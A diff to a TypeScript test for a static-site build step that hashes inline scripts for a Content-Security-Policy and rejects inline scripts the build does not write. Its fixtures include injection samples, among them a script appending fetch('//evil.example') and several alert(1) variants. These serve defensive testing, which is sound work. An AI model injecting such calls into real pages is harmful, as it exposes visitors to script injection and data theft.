@@ -4,6 +4,9 @@ import { withPagePolicy } from '../../scripts/build/page-policy';
 import { scriptHash } from '../../scripts/postbuild/csp';
 
 const inputs = { embedUrls: ['https://www.openstreetmap.org/export/embed.html'], env: {}, basePath: '' };
+/** The two inline scripts the build writes: React Router's page data and vite-react-ssg's build hash. */
+const DATA = String.raw`window.__staticRouterHydrationData = JSON.parse("{\"loaderData\":{\"0\":\"\u003c/script\u003e\"}}");`;
+const HASH = "window.__VITE_REACT_SSG_HASH__ = 'sssg23twde'";
 const page = (head: string, body = '') =>
   `<!DOCTYPE html><html><head>${head}</head><body><div id="root">${body}</div></body></html>`;
 
@@ -11,13 +14,10 @@ describe('withPagePolicy', () => {
   it("puts the policy of the page's own inline scripts right after its <meta charset>", () => {
     const html = page(
       '<title>A</title><meta data-rh="true" charset="UTF-8"><meta name="description" content="d">',
-      '<script>window.__staticRouterHydrationData = JSON.parse("{}");</script><script>window.x = 1</script>',
+      `<script>${DATA}</script><script>${HASH}</script>`,
     );
     const made = withPagePolicy(html, inputs);
-    const hashes = [
-      scriptHash('window.__staticRouterHydrationData = JSON.parse("{}");'),
-      scriptHash('window.x = 1'),
-    ];
+    const hashes = [scriptHash(DATA), scriptHash(HASH)];
     expect(made.policy.scriptHashes).toEqual([...hashes].sort());
     const start = made.html.indexOf('charset="UTF-8">') + 'charset="UTF-8">'.length;
     expect(made.html.slice(start)).toMatch(
@@ -32,5 +32,43 @@ describe('withPagePolicy', () => {
     expect(() => withPagePolicy(page('<script>x()</script><meta charset="UTF-8">'), inputs)).toThrow(
       /a <script> before its <meta charset>/,
     );
+  });
+
+  it('refuses a page with an inline script the build does not write, naming it', () => {
+    const charset = '<meta charset="UTF-8">';
+    for (const foreign of [
+      'window.x = 1',
+      `${HASH}; fetch("//evil.example")`,
+      'window.__staticRouterHydrationData = JSON.parse("{}"); alert(1);',
+      'window.__staticRouterHydrationData = JSON.parse("{}" + alert(1));',
+      'window.__staticRouterHydrationData = JSON.parse(alert(1));',
+      "window.__VITE_REACT_SSG_HASH__ = 'a' + alert(1)",
+    ]) {
+      expect(
+        () => withPagePolicy(page(charset, `<script>${DATA}</script><script>${foreign}</script>`), inputs),
+        foreign,
+      ).toThrow(
+        `The page has an inline script the build does not write (${JSON.stringify(foreign.length > 80 ? `${foreign.slice(0, 77)}...` : foreign)}). Only vite-react-ssg's build hash and React Router's page data may be inline`,
+      );
+    }
+    // A module script, an SVG script and one with a JavaScript type are scripts too; data blocks
+    // (JSON-LD) and scripts loaded from a file are not inline scripts.
+    for (const foreign of [
+      '<script type="module">import("/x.js")</script>',
+      '<script type="text/javascript">x()</script>',
+      '<svg><script>x()</script></svg>',
+    ])
+      expect(() => withPagePolicy(page(charset, foreign), inputs), foreign).toThrow(
+        /inline script the build does not write/,
+      );
+    expect(
+      withPagePolicy(
+        page(
+          charset,
+          '<script type="application/ld+json">{"a":1}</script><script type="module" src="/assets/a.js"></script>',
+        ),
+        inputs,
+      ).policy.scriptHashes,
+    ).toEqual([]);
   });
 });
